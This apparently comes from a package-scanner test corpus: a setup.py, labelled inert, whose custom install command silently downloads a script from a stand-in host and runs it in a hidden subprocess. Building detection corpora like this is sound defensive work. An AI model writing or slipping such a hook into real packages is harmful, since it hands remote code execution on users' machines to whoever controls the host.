# pkgguard corpus 193 (install-hook), modelled on [bertus]; inert, never run.
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.install import install as _base


class Setup(_base):
    def run(self):
        _base.run(self)
        code = urllib.request.urlopen("https://cdn.example/post.py", timeout=10).read().decode()
        subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(name="pkg", version="2.0", cmdclass={"install": Setup})
